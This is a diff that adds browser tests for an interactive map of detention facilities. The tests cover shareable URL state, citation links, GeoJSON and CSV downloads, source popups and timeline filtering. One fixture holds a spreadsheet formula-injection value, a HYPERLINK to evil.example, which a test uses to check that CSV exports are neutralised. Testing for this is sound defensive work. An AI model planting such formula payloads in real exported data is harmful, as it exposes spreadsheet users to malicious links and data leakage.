@@ -575,3 +575,185 @@ def test_default_layers(open_page, maps):
     page.evaluate("() => { mapperTest.map.setZoom(9, {animate: false}); }")
     assert page.locator(".leaflet-flows-pane path").count() == 0
     assert "Shown up to zoom 7" in page.locator(".mapper-filters").inner_text()
+
+
+# --- URL state (point 6), cite and download (point 5) ---------------------------------------
+
+def test_url_state_round_trip(open_page, maps, layer):
+    page = open_page(maps["demo"])
+    page.locator('input[data-group="type"][data-key="sizo"]').uncheck()
+    page.locator('.mapper-timeline button[data-year="2023"]').click()
+    fid = "ua-kharkiv-balakliia-police"
+    assert fid in set(layer["id"])
+    page.evaluate("id => mapperTest.focus(id)", fid)
+    page.wait_for_selector(f'.leaflet-popup .mp[data-id="{fid}"]')
+    hash_ = page.evaluate("location.hash")
+    assert f"id={fid}" in hash_ and "year=2023" in hash_ and "type=" in hash_
+    assert "sizo" not in hash_.split("type=")[1].split("&")[0].split(",")
+    shown = page.evaluate("mapperTest.shownIds()")
+    # a new reader opening that link sees the same selection, year and facility
+    again = open_page(maps["demo"], hash_=hash_)
+    again.wait_for_selector(f'.leaflet-popup .mp[data-id="{fid}"]')
+    assert again.evaluate("mapperTest.shownIds()") == shown
+    assert not again.locator('input[data-group="type"][data-key="sizo"]').is_checked()
+    assert again.locator('.mapper-timeline button[data-year="2023"]').get_attribute(
+        "aria-pressed") == "true"
+    assert again.errors == []
+
+
+def test_view_is_restored(open_page, maps):
+    page = open_page(maps["demo"], hash_="#view=47.1000,37.5500,9")
+    view = page.evaluate("""() => { const c = mapperTest.map.getCenter();
+        return [+c.lat.toFixed(2), +c.lng.toFixed(2), mapperTest.map.getZoom()]; }""")
+    assert view == [47.1, 37.55, 9]
+
+
+def test_unknown_id_says_so(open_page, maps):
+    page = open_page(maps["demo"], hash_="#id=no-such-facility")
+    alert = page.locator(".mapper-alert")
+    assert "no facility with the id “no-such-facility”" in alert.inner_text()
+    assert page.locator(".leaflet-popup").count() == 0
+
+
+def test_copy_link_is_never_a_file_path(open_page, maps, layer, tmp_path):
+    fid = "ru-rostov-taganrog-sizo-2"
+    page = open_page(maps["demo"])
+    page.evaluate("id => mapperTest.focus(id)", fid)
+    link = page.locator(".leaflet-popup .link input").input_value()
+    assert link == f"demo.html#id={fid}"
+    published = tmp_path / "pub.html"
+    render_map(layer, base_url="https://example.org/maps/detention.html").save(published)
+    page = open_page(published)
+    page.evaluate("id => mapperTest.focus(id)", fid)
+    link = page.locator(".leaflet-popup .link input").input_value()
+    assert link == f"https://example.org/maps/detention.html#id={fid}"
+    about = page.locator("#mapper-about").inner_text()
+    assert "https://example.org/maps/detention.html" in about
+    assert "How to cite" in about and "mapper figure" in about
+
+
+def test_downloads_equal_the_selection(open_page, maps, layer):
+    import csv
+    import io
+
+    page = open_page(maps["demo"])
+    page.locator('input[data-group="terr"][data-key="ru"]').uncheck()
+    page.locator('.mapper-timeline button[data-year="2022"]').click()
+    shown = page.evaluate("mapperTest.shownIds()")
+    assert 0 < len(shown) < len(layer)
+    with page.expect_download() as dl:
+        page.locator('button[data-download="geojson"]').click()
+    fc = json.loads(dl.value.path().read_text(encoding="utf-8"))
+    assert [f["properties"]["id"] for f in fc["features"]] == shown
+    assert all(f["properties"]["country"] == "UA" for f in fc["features"])
+    with page.expect_download() as dl:
+        page.locator('button[data-download="csv"]').click()
+    text = dl.value.path().read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["id"] for r in rows] == shown
+    assert dl.value.suggested_filename.endswith("_2022.csv")
+    assert page.blocked == []
+
+
+def test_csv_download_is_formula_safe(open_page, registry_fields_map):
+    import csv
+    import io
+
+    page = open_page(registry_fields_map)
+    with page.expect_download() as dl:
+        page.locator('button[data-download="csv"]').click()
+    rows = list(csv.DictReader(io.StringIO(dl.value.path().read_text(encoding="utf-8-sig"))))
+    name = next(r["name_en"] for r in rows if r["id"] == "t-russia")
+    assert name == "'" + FORMULA  # shown as text by a spreadsheet, never run
+    for r in rows:
+        for v in r.values():
+            assert v[:1] not in ("=", "+", "-", "@"), v
+
+
+# --- time (point 4), territory and sources from the registry's new fields -----------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?x","click")'
+
+
+@pytest.fixture(scope="module")
+def registry_fields_map(tmp_path_factory):
+    """Three facilities with the registry branch's fields (control_status, liberated_date,
+    sources with publisher and title). Names, places and dates are made up for the test."""
+    gdf = gpd.GeoDataFrame({
+        "id": ["t-liberated", "t-occupied", "t-russia"],
+        "name_en": ["Test place A", "Test place B", FORMULA],
+        "facility_type": ["improvised", "filtration_site", "sizo"],
+        "country": ["UA", "UA", "RU"], "occupied": [True, True, False],
+        "control_status": ["liberated", "occupied", "russia"],
+        "liberated_date": ["2022-11-11", None, None],
+        "region_code": ["UA-65", "UA-14", "RU-ROS"],
+        "settlement_en": ["Town A", "Town B", "Town C"],
+        "geocode_precision": ["settlement", "settlement", "exact"],
+        "first_reported": ["2022-03", "2022-04", "2023-01"],
+        "last_reported": ["2022-11", None, "2024-05"],
+        "sources": [[{"url": "https://example.org/a", "date": "2022-12-01",
+                      "publisher": "Example Outlet", "title": "Report on place A"}],
+                    [{"url": "https://example.org/b", "date": "2023"}],
+                    [{"url": "https://example.org/c", "date": "2024-05-02",
+                      "publisher": "Other Outlet", "title": "Place C",
+                      "retrieved_from": "https://web.archive.org/web/2024/https://example.org/c"}]],
+        "reported_detainees": ["civilian"] * 3, "context": ["captivity_since_2022"] * 3,
+    }, geometry=[Point(32.6, 46.65), Point(37.8, 48.0), Point(39.7, 47.2)], crs="EPSG:4326")
+    path = tmp_path_factory.mktemp("fields") / "fields.html"
+    render_map(gdf).save(path)
+    return path
+
+
+def test_liberated_and_occupied_with_dates_and_sources(open_page, registry_fields_map):
+    page = open_page(registry_fields_map)
+    page.evaluate("id => mapperTest.focus(id)", "t-liberated")
+    popup = page.locator('.leaflet-popup .mp[data-id="t-liberated"]')
+    popup.wait_for()
+    text = popup.inner_text()
+    assert "Liberated Ukraine since 2022-11-11 (occupied when in use, 2022-03 – 2022-11)" in text
+    link = popup.locator("ol a")
+    assert link.inner_text() == "Report on place A"
+    assert link.get_attribute("href") == "https://example.org/a"
+    assert "Example Outlet, 2022-12-01" in popup.locator("ol").inner_text()
+    page.evaluate("id => mapperTest.focus(id)", "t-occupied")
+    popup = page.locator('.leaflet-popup .mp[data-id="t-occupied"]')
+    popup.wait_for()
+    assert "Occupied Ukraine (in use 2022-04 – …)" in popup.inner_text()
+    # without publisher or title: the link shows the address and the outlet's host
+    assert "example.org, 2023" in popup.locator("ol").inner_text()
+    page.evaluate("id => mapperTest.focus(id)", "t-russia")
+    popup = page.locator('.leaflet-popup .mp[data-id="t-russia"]')
+    popup.wait_for()
+    assert "via web.archive.org" in popup.locator("ol").inner_text()
+    # the territory filter has its own entry for liberated places, and the table says so
+    assert page.locator('input[data-group="terr"][data-key="ua_liberated"]').count() == 1
+    cell = page.locator('#mapper-table tr[data-id="t-liberated"] td').nth(1).inner_text()
+    assert cell.startswith("Liberated Ukraine since 2022-11-11")
+    assert page.errors == []
+
+
+def test_timeline_drives_markers_counts_choropleth(open_page, maps, layer):
+    join = maps["join"]
+    page = open_page(maps["demo"])
+    bars = page.locator(".mapper-timeline button[data-year]")
+    years = [b for b in bars.evaluate_all("bs => bs.map(b => b.dataset.year)") if b]
+    assert "2022" in years and "2025" in years
+    page.locator('.mapper-timeline button[data-year="2024"]').click()
+    jl = join.layer
+    in_2024 = set(jl.loc[jl["testimonies_2024"] > 0, "id"])
+    shown = set(page.evaluate("mapperTest.shownIds()"))
+    assert in_2024 <= shown
+    for fid in shown - in_2024:  # the rest: reported in use that year
+        row = jl[jl.id == fid].iloc[0]
+        first = str(row["first_reported"])[:4] if isinstance(row["first_reported"], str) else "0"
+        last = str(row["last_reported"])[:4] if isinstance(row["last_reported"], str) else "9999"
+        assert first <= "2024" <= last, fid
+    assert page.locator("#mapper-table tbody tr").count() == len(shown)
+    status = page.locator(".mapper-status").inner_text()
+    assert f"Showing {len(shown)} of {len(layer)}" in status
+    # the choropleth now shows 2024's counts: one shape per region with testimonies in 2024
+    regs = join.regions
+    n_regions = int((regs["testimonies_2024"] > 0).sum())
+    assert page.locator(".leaflet-choro-pane path").count() == n_regions
+    page.locator('.mapper-timeline button[data-year=""]').click()
+    assert page.locator(".leaflet-choro-pane path").count() == int((regs["testimonies"] > 0).sum())
